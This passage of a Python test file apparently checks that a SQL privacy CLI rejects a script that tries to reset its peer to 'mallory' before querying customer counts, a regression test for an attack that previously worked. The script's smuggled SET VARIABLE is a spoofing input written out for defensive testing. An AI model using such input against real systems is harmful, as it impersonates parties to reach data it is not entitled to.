        assert {f.name for f in (tmp_path / "mailbox").rglob("*.*")} <= {"status.json"}


@takes_long
def test_on_the_command_line(bank, tmp_path, sent) -> None:
    """As the first of the attacks that worked."""
    bank.close()
    script = tmp_path / "own.sql"
    script.write_text(
        f"SET VARIABLE peer = 'mallory';\n{COUNT.replace('FROM t', 'FROM customers')}"
    )
    command = [
        *(str(Path(sys.executable).with_name("duckpriv")), "run", str(script)),
        *("--db", str(tmp_path / "bank.duckdb"), "--me", "bank", "--peer", "shop"),
        *("--exchange", f"dir:{tmp_path / 'mailbox'}", "--session", "cli"),
        *("--keyring", str(tmp_path / "bank.keys"), "--unprotected"),
    ]
    shown = subprocess.run([*command, "--dry-run"], capture_output=True, text=True, check=True)
    assert re.search(r"stats/count +shop", shown.stdout)
    assert "mallory" not in shown.stdout
    done = subprocess.run([*command, "--quiet"], capture_output=True, text=True)
    assert done.returncode != 0
    assert isinstance(from_text(done.stderr), NotAccepted)
    assert sent() == set()
